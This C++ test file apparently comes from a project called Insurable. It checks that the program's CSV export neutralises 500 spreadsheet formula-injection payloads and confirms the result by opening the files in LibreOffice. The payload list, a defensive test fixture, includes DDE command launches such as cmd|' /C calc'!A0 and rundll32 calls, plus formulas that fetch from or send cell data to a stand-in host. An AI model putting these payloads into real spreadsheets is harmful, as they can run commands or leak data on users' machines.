// SPDX-FileCopyrightText: 2026 The Insurable authors
// SPDX-License-Identifier: GPL-3.0-or-later
//
// Cells that a spreadsheet would run.
#include "asset.h"
#include "importplan.h"
#include "ordeals.h"
#include "progress.h"
#include "recordexport.h"
#include "workload.h"

#include <QBuffer>
#include <QProcess>
#include <QStandardPaths>

using namespace Qt::StringLiterals;

namespace insurable::torture {

namespace {

class Formulas final : public Ordeal
{
public:
    QString name() const override { return u"formulas"_s; }
    QString goal() const override { return u"S13: 500 payloads: none runs, all come back"_s; }
    int seconds(bool) const override { return 180; }

    void run(const Plan &, Tally &tally) override
    {
        const QTemporaryDir folder;
        const QByteArray exported = throughTheProgram(Yard(folder.path()), tally);
        throughASpreadsheet(QDir(folder.path()), exported, tally);
    }

private:
    QByteArray throughTheProgram(const Yard &yard, Tally &tally)
    {
        makeFirm(m_tools, yard);
        Worker worker(m_tools, yard, dataKeyOf(m_tools, yard.vault()));
        Isms &isms = worker.isms();
        NoProgress progress;
        const QStringList all = payloads();
        QList<AnyRecord> records;
        for (qsizetype i = 0; i < all.size(); ++i) {
            Asset asset;
            asset.id = Id::from(u"f%1"_s.arg(i));
            asset.name = u"Formula"_s;
            asset.notes = all[i];
            records.append(AnyRecord(asset));
        }
        isms.apply(u"formulas"_s, records, progress);
        QBuffer out;
        out.open(QIODevice::WriteOnly);
        (void)writeRecords(isms, describe<Asset>(), ExchangeFormat::Csv, out, progress);
        CsvLimits limits;
        CsvReader reader(out.data(), limits);
        QStringList cells;
        while (reader.next(cells)) {
            for (const QString &cell : cells) {
                if (!cell.isEmpty() && u"=+-@\t\r\n＝＋－＠"_s.contains(cell.front()))
                    tally.miss(u"a cell begins with “%1”"_s.arg(cell.left(10)));
            }
        }
        const ImportPlan plan =
            planImportOf(out.data(), isms, describe<Asset>(), ExchangeFormat::Csv, progress);
        if (!plan.isClean() || plan.added + plan.updated > 0)
            tally.miss(u"%1 rows came back otherwise"_s.arg(plan.added + plan.updated));
        tally.cycles = all.size();
        if (all.size() < 500)
            tally.miss(u"too few payloads"_s);
        return out.data();
    }

    // What LibreOffice makes of the file; and, to see that it would, of the payloads as they are.
    static void throughASpreadsheet(const QDir &folder, const QByteArray &exported, Tally &tally)
    {
        const QString office = QStandardPaths::findExecutable(u"soffice"_s);
        if (office.isEmpty()) {
            tally.figures = u"LibreOffice is not installed: not opened in it"_s;
            return;
        }
        QByteArray bare;
        for (const QString &payload : payloads()) {
            QString cell = payload;
            bare += '"' + cell.replace(u'"', u"\"\""_s).toUtf8() + "\"\r\n";
        }
        const int ours = formulasIn(office, folder, u"exported"_s, exported, tally);
        const int control = formulasIn(office, folder, u"bare"_s, bare, tally);
        tally.figures = u"LibreOffice makes %1 formulas of the exported file, %2 of the same "
                        "payloads unguarded"_s.arg(ours)
                            .arg(control);
        if (ours != 0 || control < 10)
            tally.miss(u"formulas in a spreadsheet, or none where there should be some"_s);
    }

    static int formulasIn(const QString &office, const QDir &folder, const QString &name,
                          const QByteArray &csv, Tally &tally)
    {
        QFile file(folder.filePath(name + u".csv"_s));
        if (!file.open(QIODevice::WriteOnly) || file.write(csv) != csv.size())
            qFatal("a test file could not be written");
        file.close();
        QProcess process;
        process.start(office,
                      {u"-env:UserInstallation=file://"_s + folder.filePath(u"profile"_s),
                       u"--headless"_s, u"--norestore"_s, u"--infilter=csv:44,34,76,1"_s,
                       u"--convert-to"_s, u"fods"_s, u"--outdir"_s, folder.path(),
                       file.fileName()});
        process.waitForFinished(80'000);
        QFile sheet(folder.filePath(name + u".fods"_s));
        if (!sheet.open(QIODevice::ReadOnly)) {
            tally.miss(u"LibreOffice converted nothing"_s);
            return -1;
        }
        return int(sheet.readAll().count("table:formula="));
    }

    static QStringList payloads()
    {
        const QStringList starts{u"="_s,  u"+"_s,  u"-"_s,   u"@"_s,   u"\t="_s, u"=="_s,  u"=+"_s,
                                 u"+-"_s, u"'="_s, u"''="_s, u"\"="_s, u";="_s,  u",="_s,  u" ="_s,
                                 u"＝"_s, u"＋"_s, u"－"_s,  u"＠"_s,  u"\n="_s, u"x\n="_s};
        const QStringList rests{u"cmd|' /C calc'!A0"_s,
                                u"1+1"_s,
                                u"HYPERLINK(\"http://x\",\"y\")"_s,
                                u"WEBSERVICE(\"http://x\")"_s,
                                u"SUM(1+1)*cmd|' /C calc'!A0"_s,
                                u"IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")"_s,
                                u"DDE(\"cmd\";\"/C\")"_s,
                                u"MSEXCEL|'\\..\\..\\cmd.exe'!''"_s,
                                u"rundll32|'URL.dll'!A"_s,
                                u"A1"_s,
                                u"\"=1+1"_s,
                                u"'"_s,
                                u"''"_s,
                                u"\t"_s,
                                u"=1,=2"_s,
                                u"@SUM(1)"_s,
                                u"-2+3"_s,
                                u"IMAGE(\"http://x\")"_s,
                                u"FILTERXML(\"<a/>\",\"//a\")"_s,
                                u"INDIRECT(\"A1\")"_s,
                                u"CALL(\"x\")"_s,
                                u"EXEC(\"calc\")"_s,
                                u"REGISTER.ID(\"k\",\"W\")"_s,
                                u"IMPORTFEED(\"http://x\")"_s,
                                u"CELL(\"filename\")"_s};
        QStringList all;
        for (const QString &start : starts) {
            for (const QString &rest : rests)
                all.append(start + rest);
        }
        return all;
    }

    Tools m_tools;
};

} // namespace

std::unique_ptr<Ordeal> makeFormulas()
{
    return std::make_unique<Formulas>();
}

} // namespace insurable::torture
